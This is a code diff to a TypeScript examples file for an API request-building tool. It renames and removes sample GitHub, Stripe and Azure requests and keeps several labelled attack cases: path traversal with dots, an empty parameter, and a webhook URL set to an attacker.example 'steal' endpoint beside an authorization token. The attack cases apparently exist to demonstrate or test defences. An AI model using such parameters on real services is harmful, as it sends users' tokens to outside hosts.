@@ -12,7 +12,7 @@ export const profile = "baseUrl: https://api.github.com\nvendor: github\nversion
 /** Four of them are attacks. The README links the first of these. */
 export const examples: readonly Example[] = [
   {
-    name: "A list, with defaults",
+    name: "A search, with defaults",
     route: "GET /repos/{owner}/{repo}/issues{?state,labels}",
     parameters: 'repo: hello-world\nstate: open\nlabels: ["bug", "good first issue"]\nper_page: 50',
     defaults: "owner: octocat\nper_page: 100\nheaders:\n  user-agent: my-app/1.2.3",
@@ -24,11 +24,6 @@ export const examples: readonly Example[] = [
     defaults: "headers:\n  authorization: token 0000000000000000000000000000000000000001",
   },
   {
-    name: "A file in a folder, as it is",
-    route: "GET /repos/octocat/hello-world/contents/{+path}{?ref}",
-    parameters: "path: docs/read me.md\nref: main\nmediaType:\n  format: raw",
-  },
-  {
     name: "Two layers of defaults",
     route: "GET /orgs/{org}/repos",
     parameters: "per_page: 50\nheaders:\n  x-trace: null",
@@ -36,23 +31,10 @@ export const examples: readonly Example[] = [
       "baseUrl: https://github.example.com/api/v3\norg: octokit\nheaders:\n  x-trace: 7\n---\nper_page: 100\ntype: private",
   },
   {
-    name: "Lists and objects for Stripe",
+    name: "Arrays and objects for Stripe",
     route: "GET /charges",
     parameters: 'created: {"gte": 1700000000}\nexpand: ["data.customer"]\nlimit: 3',
     profile: "baseUrl: https://api.stripe.com/v1\narrays: indices\nobjects: brackets",
-  },
-  {
-    name: "An API of your own",
-    route: "POST /users/{id}/notes{?notify}",
-    parameters: "id: 7\ntext: Leave it at the door\nnotify: true",
-    defaults: "headers:\n  authorization: Bearer 0000",
-    profile: "baseUrl: https://api.example.com/v1",
-  },
-  {
-    name: "A version in every query, for Azure",
-    route: "DELETE /subscriptions/{id}",
-    parameters: "id: 0000-0001",
-    profile: 'baseUrl: https://management.azure.com\nquery: {"api-version": "2024-11-01"}',
   },
   {
     name: "Attack: two dots for an id",
@@ -71,7 +53,7 @@ export const examples: readonly Example[] = [
     parameters: 'org: octokit\nteam: ""',
   },
   {
-    name: "Attack: a parameter that takes the token elsewhere",
+    name: "Attack: a parameter that takes the token to another host",
     route: "PATCH /app/hook/config",
     parameters: "url: https://attacker.example/steal",
     defaults: "headers:\n  authorization: token 0000000000000000000000000000000000000001",
